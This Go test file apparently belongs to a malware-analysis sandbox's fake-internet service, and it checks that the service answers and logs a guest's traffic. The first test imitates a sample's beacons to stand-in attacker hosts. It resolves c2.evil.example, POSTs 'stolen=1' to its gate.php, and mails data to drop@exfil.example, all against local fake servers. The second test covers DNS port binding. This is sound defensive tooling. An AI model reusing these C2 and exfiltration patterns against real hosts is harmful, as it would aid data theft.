package fakenet

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-smtp"
	"github.com/miekg/dns"
)

// A guest's DNS question, HTTP and HTTPS requests and a mail: each answered
// the way a sample expects, each recorded with the guest's address.
func TestFakeInternetAnswersAndRecords(t *testing.T) {
	n, err := Start(netip.MustParseAddr("127.0.0.1"), Ports{})
	if err != nil {
		t.Fatal(err)
	}
	defer n.Close()
	start := time.Now()
	at := func(p int) string { return fmt.Sprintf("127.0.0.1:%d", p) }

	q := new(dns.Msg)
	q.SetQuestion("c2.evil.example.", dns.TypeA)
	r, err := dns.Exchange(q, at(n.Bound.DNS))
	if err != nil || len(r.Answer) != 1 || r.Answer[0].(*dns.A).A.String() != "127.0.0.1" {
		t.Fatalf("dns: %v %v", err, r)
	}
	req, _ := http.NewRequest("POST", "http://"+at(n.Bound.HTTP)+"/gate.php?id=7", strings.NewReader("stolen=1"))
	req.Host = "c2.evil.example"
	req.Header.Set("User-Agent", "sample/1.0")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: "bank.example"}}
	resp, err = (&http.Client{Transport: tr}).Get("https://" + at(n.Bound.HTTPS) + "/login")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	c, err := smtp.Dial(at(n.Bound.SMTP))
	if err != nil {
		t.Fatal(err)
	}
	if ok, _ := c.Extension("STARTTLS"); !ok {
		t.Error("the fake SMTP server offers no STARTTLS")
	}
	if err := c.SendMail("bot@guest.invalid", []string{"drop@exfil.example"}, strings.NewReader("Subject: x\r\n\r\ndata\r\n")); err != nil {
		t.Fatal(err)
	}
	c.Quit()
	got := n.Seen("127.0.0.1", start, time.Now())
	kinds := map[string]Contact{}
	for _, c := range got {
		kinds[c.Kind] = c
	}
	if c := kinds["dns"]; c.Name != "c2.evil.example" {
		t.Errorf("dns %+v", c)
	}
	if c := kinds["http"]; c.Name != "c2.evil.example" || !strings.Contains(c.Detail, "POST /gate.php?id=7 (8 bytes, sample/1.0)") {
		t.Errorf("http %+v", c)
	}
	if c := kinds["https"]; !strings.Contains(c.Detail, "GET /login") {
		t.Errorf("https %+v", c)
	}
	if c := kinds["smtp"]; c.Name != "exfil.example" || !strings.Contains(c.Detail, "drop@exfil.example") {
		t.Errorf("smtp %+v", c)
	}
	if len(n.Seen("10.77.0.11", start, time.Now())) != 0 {
		t.Error("another guest's contacts leak into this one's")
	}
}

// DNS needs UDP and TCP on one port. A CI run failed when the port the
// kernel gave UDP was taken for TCP; with port 0 another port is tried,
// a fixed port that is taken is an error.
func TestDNSPortTakenForTCP(t *testing.T) {
	taken, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer taken.Close()
	p := taken.Addr().(*net.TCPAddr).Port
	first := true
	hp := func(port int) string {
		if port == 0 && first { // the kernel "chooses" the taken port once
			first = false
			port = p
		}
		return fmt.Sprintf("127.0.0.1:%d", port)
	}
	udp, tcp, err := listenDNS(hp, 0)
	if err != nil {
		t.Fatalf("port 0 with the first choice taken: %v", err)
	}
	got := udp.LocalAddr().(*net.UDPAddr).Port
	if got == p || tcp.Addr().(*net.TCPAddr).Port != got {
		t.Fatalf("udp %d tcp %v, taken %d", got, tcp.Addr(), p)
	}
	udp.Close()
	tcp.Close()
	if first {
		t.Fatal("the taken port was never tried")
	}

	fixed := func(port int) string { return fmt.Sprintf("127.0.0.1:%d", port) }
	if u, l, err := listenDNS(fixed, p); err == nil {
		u.Close()
		l.Close()
		t.Fatalf("fixed port %d taken for TCP was accepted", p)
	}
}
